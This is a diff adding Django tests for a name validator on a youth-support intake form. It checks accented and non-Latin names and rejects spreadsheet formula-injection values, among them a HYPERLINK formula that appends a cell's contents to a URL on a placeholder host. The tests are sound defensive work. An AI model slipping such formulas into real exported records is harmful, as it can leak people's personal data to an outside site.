@@ -226,6 +226,40 @@ def test_ecran_premier_accueil_refuse_un_telephone_invalide(client_de, accueil_r
     assert not Jeune.objects.exists()
 
 
+# --- Noms et prénoms -------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("nom", ["Le Goff", "N'Diaye", "Éloïse", "Ødegaard", "Nguyễn", "محمد"])
+def test_nom_qui_commence_par_une_lettre_accepte(nom):
+    regles.valider_nom_personne(nom)
+
+
+@pytest.mark.parametrize("nom", ["=1+1", '=HYPERLINK("http://x";"y")', "+33", "-Martin", "@SUM(A1)", " Martin", "1er"])
+def test_nom_qui_ne_commence_pas_par_une_lettre_refuse(nom):
+    with pytest.raises(ValidationError) as erreur:
+        regles.valider_nom_personne(nom)
+    assert erreur.value.messages == [regles.MESSAGE_NOM]
+
+
+@pytest.mark.django_db
+def test_ecran_premier_accueil_refuse_un_nom_formule(client_de, accueil_rennes):
+    reponse = client_de(accueil_rennes).post(
+        reverse("accompagnement:jeune_creer"),
+        {
+            "nom": '=HYPERLINK("http://exemple.org/?"&B2;"Ouvrir")',
+            "prenom": "Éloïse",
+            "sexe": "f",
+            "date_naissance": _ne_pour(19).replace(year=datetime.date.today().year - 19).isoformat(),
+            "nationalite": "francaise",
+            "commune": "35051",
+            "date_premier_accueil": datetime.date.today().isoformat(),
+        },
+    )
+    assert reponse.status_code == 200
+    assert "Un nom ou un prénom commence par une lettre" in reponse.content.decode()
+    assert not Jeune.objects.exists()
+
+
 # --- Clé de recherche d'un nom ---------------------------------------------------------------------------------
 
 
